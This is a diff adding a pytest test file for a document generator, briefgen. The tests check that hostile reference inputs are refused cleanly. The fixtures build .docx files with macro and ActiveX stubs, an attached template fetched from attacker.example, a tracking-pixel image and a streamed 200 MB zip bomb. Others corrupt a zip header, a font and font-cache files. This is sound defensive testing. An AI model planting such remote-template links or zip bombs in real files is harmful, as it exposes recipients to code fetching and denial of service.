@@ -1,0 +1,249 @@
+"""Hostile or damaged theme inputs are bad input (exit 2 naming the theme file and field, nothing
+written), never a crash (exit 70) and never passed on into the notes: a reference docx carrying
+macros, controls, embedded objects or external links; a zip bomb as reference; the smallest
+documented margins; a font with damaged outlines; a font cache face cut short."""
+
+from __future__ import annotations
+
+import io
+import shutil
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from conftest import BUNDLED, docx_text, pdf_text, run_cli
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _plain_docx() -> bytes:
+    import docx
+
+    doc = docx.Document()
+    doc.sections[0].header.paragraphs[0].text = "MINISTRY LETTERHEAD"
+    out = io.BytesIO()
+    doc.save(out)
+    return out.getvalue()
+
+
+def _repacked(data: bytes, change) -> bytes:
+    """``data`` (a .docx) with ``change(parts: dict[name, bytes])`` applied to its parts."""
+    with zipfile.ZipFile(io.BytesIO(data)) as src:
+        parts = {i.filename: src.read(i) for i in src.infolist()}
+    change(parts)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name, content in parts.items():
+            dst.writestr(name, content)
+    return out.getvalue()
+
+
+def _add_rel(parts: dict, rels: str, rel: str) -> None:
+    text = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
+                     b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    parts[rels] = text.replace(b"</Relationships>", rel.encode() + b"</Relationships>")
+
+
+def _vba(parts: dict) -> None:
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 508
+    _add_rel(parts, "word/_rels/document.xml.rels",
+             f'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+             f'Target="vbaProject.bin"/>')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
+
+
+def _attached_template(parts: dict) -> None:
+    _add_rel(parts, "word/_rels/settings.xml.rels",
+             f'<Relationship Id="rIdT" Type="{_REL}/attachedTemplate" '
+             f'Target="https://attacker.example/t.dotm" TargetMode="External"/>')
+
+
+def _external_image(parts: dict) -> None:
+    _add_rel(parts, "word/_rels/document.xml.rels",
+             f'<Relationship Id="rIdImg" Type="{_REL}/image" Target="https://tracker.example/pixel.png" '
+             f'TargetMode="External"/>')
+
+
+def _activex(parts: dict) -> None:
+    parts["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>'
+
+
+def _embedding(parts: dict) -> None:
+    parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 100
+
+
+def _build(tmp_path: Path, theme_text: str, *extra: str) -> subprocess.CompletedProcess:
+    theme = tmp_path / "theme.yaml"
+    theme.write_text(theme_text, encoding="utf-8")
+    return run_cli("build", str(BUNDLED), "-o", str(tmp_path / "out"), "--theme", str(theme), *extra)
+
+
+@pytest.mark.parametrize("change", [_vba, _attached_template, _external_image, _activex, _embedding],
+                         ids=["vba", "attached-template", "external-image", "activex", "ole-embedding"])
+def test_a_reference_with_active_or_linked_content_is_refused(tmp_path, change):
+    (tmp_path / "letterhead.docx").write_bytes(_repacked(_plain_docx(), change))
+    result = _build(tmp_path, "reference_docx: letterhead.docx\n")
+    assert result.returncode == 2, result.stderr
+    assert "theme.yaml:1:" in result.stderr and "reference_docx" in result.stderr
+    assert "letterhead.docx" in result.stderr and "without macros" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_reference_with_an_http_hyperlink_is_used(tmp_path):
+    """Only active content is refused: a letterhead linking the office's web site builds."""
+    def link(parts):
+        _add_rel(parts, "word/_rels/document.xml.rels",
+                 f'<Relationship Id="rIdL" Type="{_REL}/hyperlink" Target="https://www.gov.example/" '
+                 f'TargetMode="External"/>')
+
+    (tmp_path / "letterhead.docx").write_bytes(_repacked(_plain_docx(), link))
+    result = _build(tmp_path, "reference_docx: letterhead.docx\n", "-f", "docx")
+    assert result.returncode == 0, result.stderr
+    import docx
+
+    doc = docx.Document(str(tmp_path / "out" / f"{BUNDLED.stem}.docx"))
+    assert any("MINISTRY LETTERHEAD" in p.text for p in doc.sections[0].header.paragraphs)
+
+
+def test_a_zip_bomb_reference_is_refused_before_it_inflates(tmp_path):
+    """A reference whose styles.xml inflates to 200 MB (about 200 KB on disk): exit 2 naming the
+    field, quickly, without the memory the inflated part would take."""
+    def bomb(parts):
+        parts["word/styles.xml"] = b""  # replaced by a streamed member below
+    base = _repacked(_plain_docx(), bomb)
+    path = tmp_path / "letterhead.docx"
+    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            if item.filename != "word/styles.xml":
+                dst.writestr(item.filename, src.read(item))
+        with dst.open("word/styles.xml", "w", force_zip64=True) as f:
+            chunk = b"\x00" * (1 << 20)
+            for _ in range(200):
+                f.write(chunk)
+    assert path.stat().st_size < 2_000_000
+    (tmp_path / "theme.yaml").write_text("reference_docx: letterhead.docx\n", encoding="utf-8")
+    probe = (
+        "import resource, sys\n"
+        "from briefgen.cli import main\n"
+        f"sys.argv = ['briefgen', 'build', {str(BUNDLED)!r}, '-o', {str(tmp_path / 'out')!r}, "
+        f"'--theme', {str(tmp_path / 'theme.yaml')!r}]\n"
+        "try:\n"
+        "    main()\n"
+        "except SystemExit as e:\n"
+        "    code = e.code\n"
+        # VmHWM is this process image's peak; ru_maxrss would carry pytest's own peak across exec.
+        "import re\n"
+        "try:\n"
+        "    peak = int(re.search(r'VmHWM:\\s*(\\d+)', open('/proc/self/status').read()).group(1))\n"
+        "except OSError:\n"
+        "    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "print('RSS', peak, 'CODE', code)\n"
+    )
+    start = time.monotonic()
+    result = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, timeout=120)
+    elapsed = time.monotonic() - start
+    rss_kb, code = result.stdout.split()[1], result.stdout.split()[3]
+    assert code == "2", result.stderr
+    assert "reference_docx" in result.stderr and "letterhead.docx" in result.stderr and "MB" in result.stderr
+    assert int(rss_kb) < 250_000, rss_kb  # the inflated member alone would be 200 MB
+    assert elapsed < 60
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_zip_member_larger_than_its_header_says_is_read_no_further():
+    from briefgen.render.reference import reference_bytes
+
+    data = bytearray(_repacked(_plain_docx(), lambda parts: parts.update({"word/big.xml": b"\x00" * 100_000})))
+    # Shrink the declared size in the central directory (the header zipfile trusts).
+    central = bytes(data).find(b"word/big.xml", bytes(data).find(b"PK\x01\x02")) - 46
+    assert data[central:central + 4] == b"PK\x01\x02"
+    data[central + 24:central + 28] = (10).to_bytes(4, "little")
+    with pytest.raises(ValueError):
+        reference_bytes(bytes(data))
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "docx"])
+def test_the_smallest_documented_margins_build(tmp_path, fmt):
+    """Top 5 mm and bottom 18 mm (the schema's minimums) build in both formats; the DOCX header
+    and footer distances are not negative."""
+    result = _build(tmp_path, "margins_mm: {top: 5, right: 5, bottom: 18, left: 5}\n", "-f", fmt)
+    assert result.returncode == 0, result.stderr
+    out = tmp_path / "out" / f"{BUNDLED.stem}.{fmt}"
+    if fmt == "pdf":
+        assert len(pdf_text(out)) > 1000
+    else:
+        import docx
+
+        section = docx.Document(str(out)).sections[0]
+        assert round(section.top_margin.mm) == 5 and round(section.bottom_margin.mm) == 18
+        assert section.header_distance >= 0 and section.footer_distance >= 0
+        assert section.header_distance < section.top_margin
+        assert len(docx_text(out)) > 1000
+
+
+def _damaged_font(tmp_path: Path) -> Path:
+    import random
+
+    from fontTools.ttLib import TTFont
+
+    from briefgen.themefile import default_theme
+
+    source = default_theme().body_font.regular
+    data = bytearray(source.read_bytes())
+    entry = TTFont(str(source)).reader.tables["glyf"]
+    rng = random.Random(1)
+    for i in range(entry.offset, entry.offset + entry.length, 7):
+        data[i] = rng.randrange(256)
+    path = tmp_path / "House-Regular.ttf"
+    path.write_bytes(bytes(data))
+    return path
+
+
+def test_a_font_with_damaged_outlines_is_refused_naming_the_file(tmp_path):
+    _damaged_font(tmp_path)
+    result = _build(tmp_path, "fonts:\n  body: {name: House, regular: House-Regular.ttf}\n")
+    assert result.returncode == 2, result.stderr
+    assert "theme.yaml:2:" in result.stderr and "fonts.body.regular" in result.stderr
+    assert "House-Regular.ttf is a damaged font" in result.stderr
+    assert "Traceback" not in result.stderr and "a bug in briefgen" not in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_freetype_failing_on_a_chart_font_is_a_located_error(tmp_path):
+    from briefgen.errors import RenderError
+    from briefgen.render.chart import ChartMarks, Label, chart_png
+
+    bad = _damaged_font(tmp_path)
+    marks = ChartMarks(100.0, 50.0, (Label(2.0, 20.0, (("Azerbaijan", bad),), 9.0, "#000000"),))
+    with pytest.raises(RenderError) as info:
+        chart_png(marks)
+    assert info.value.exit_code == 2
+    assert info.value.problems[0].path == str(bad) and "House-Regular.ttf" in info.value.problems[0].message
+
+
+def test_a_cached_face_cut_short_is_made_again(tmp_path):
+    """A face in the font cache truncated (a full disk) is noticed and remade: the next build
+    succeeds with the same text, and the face is whole again."""
+    from briefgen import fontcache
+
+    cache = tmp_path / "cache" / "briefgen" / "fonts"
+    shutil.copytree(fontcache.cache_dir(), cache)
+    env = {"XDG_CACHE_HOME": str(tmp_path / "cache")}
+    first = run_cli("build", str(BUNDLED), "-o", str(tmp_path / "first"), env=env)
+    assert first.returncode == 0, first.stderr
+    faces = sorted(p for p in cache.glob(f"NotoSerif-wdth-wght-w400-*-{fontcache._RECIPE}.ttf"))
+    assert faces
+    for face in faces + sorted(cache.glob("subset-NotoSerif-wdth-wght-w400-*")):
+        face.write_bytes(face.read_bytes()[: face.stat().st_size // 2])
+    second = run_cli("build", str(BUNDLED), "-o", str(tmp_path / "second"), env=env)
+    assert second.returncode == 0, second.stderr
+    stem = BUNDLED.stem
+    assert pdf_text(tmp_path / "second" / f"{stem}.pdf") == pdf_text(tmp_path / "first" / f"{stem}.pdf")
+    assert docx_text(tmp_path / "second" / f"{stem}.docx") == docx_text(tmp_path / "first" / f"{stem}.docx")
+    assert all(fontcache._present(face) for face in faces)
